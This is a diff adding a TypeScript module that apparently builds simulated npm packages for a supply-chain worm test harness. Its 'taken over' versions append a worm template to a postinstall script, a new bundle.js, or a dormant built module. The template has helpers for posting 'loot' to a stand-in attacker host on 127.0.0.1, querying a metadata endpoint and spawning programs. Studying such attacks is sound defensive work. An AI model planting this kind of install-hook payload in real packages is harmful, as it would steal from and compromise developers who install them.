@@ -1,0 +1,83 @@
+/** The packages of the story: one that is clean, one beside it, and what becomes of the clean one when it is taken over. */
+import type { Package } from "./registry.ts";
+import { steps } from "./steps.ts";
+
+const CLEAN_BUILD = "require('fs').writeFileSync(__dirname + '/built.js', 'module.exports = 42\\n')\n";
+
+export const clean: Package = {
+  manifest: { name: "pretty", version: "1.0.0", main: "built.js", scripts: { postinstall: "node build.js" } },
+  files: { "build.js": CLEAN_BUILD },
+};
+
+export const neighbour: Package = {
+  manifest: { name: "neighbour", version: "1.0.0", main: "index.js" },
+  files: { "index.js": "module.exports = 1\n" },
+};
+
+export interface Targets {
+  readonly attacker: number;
+  readonly metadata: number;
+  readonly registry: string;
+}
+
+/** The next version, which does everything in the install script that was there before. */
+export function takenOver(targets: Targets): Package {
+  return { manifest: { ...clean.manifest, version: "1.0.1" }, files: { "build.js": CLEAN_BUILD + worm(targets) } };
+}
+
+/** The next version, which has a file more and makes that its install script. */
+export function withBundle(targets: Targets): Package {
+  const manifest = { ...clean.manifest, version: "1.0.1", scripts: { postinstall: "node bundle.js" } };
+  return { manifest, files: { "build.js": CLEAN_BUILD, "bundle.js": CLEAN_BUILD + worm(targets) } };
+}
+
+/** The next version, which does nothing when it is installed, and everything when it is used. */
+export function dormant(targets: Targets): Package {
+  const build = `require('fs').writeFileSync(__dirname + '/built.js', ${JSON.stringify(`module.exports = 42\n${worm(targets)}`)})\n`;
+  return { manifest: { ...clean.manifest, version: "1.0.1" }, files: { "build.js": build } };
+}
+
+/** What a step says of itself: `done`, or the code of its error. */
+export type Told = Readonly<Record<string, string>>;
+
+/** Reads what the worm told on standard output; nothing if it never ran. */
+export function told(stdout: string): Told | undefined {
+  const [, line] = /^TOLD (.*)$/m.exec(stdout) ?? [];
+  return line === undefined ? undefined : (JSON.parse(line) as Told);
+}
+
+/** Every step one after the other, each on its own, as worms are written: what fails is passed over. */
+function worm({ attacker, metadata, registry }: Targets): string {
+  const list = steps.map(({ name, code }) => `[${JSON.stringify(name)}, async () => {${code}}]`).join(",\n");
+  return `;(() => {
+const fs = require('fs'), path = require('path'), http = require('http'), cp = require('child_process')
+const home = process.env.HOME, project = process.env.INIT_CWD || process.cwd()
+const host = 'http://127.0.0.1:${attacker}', registry = '${registry}', metadata = 'http://127.0.0.1:${metadata}'
+const loot = {}
+let scanner
+const ask = (method, url, body) => new Promise((resolve, reject) => {
+  const request = http.request(url, { method, agent: false }, (response) => {
+    const parts = []
+    response.on('data', (part) => parts.push(part)).on('end', () => resolve(Buffer.concat(parts)))
+  })
+  request.on('error', reject).end(body)
+})
+const get = (where) => ask('GET', host + where)
+const post = (where, body) => ask('POST', host + where, body)
+const put = (url) => ask('PUT', url, '{}')
+const run = (program, words) => {
+  const { error, stdout } = cp.spawnSync(program, words, { encoding: 'utf8' })
+  if (error) throw error
+  return stdout
+}
+const steps = [${list}]
+;(async () => {
+  const told = {}
+  for (const [name, step] of steps) {
+    try { await step(); told[name] = 'done' } catch (error) { told[name] = error.code || String(error) }
+  }
+  fs.writeSync(1, 'TOLD ' + JSON.stringify(told) + '\\n')
+})()
+})()
+`;
+}
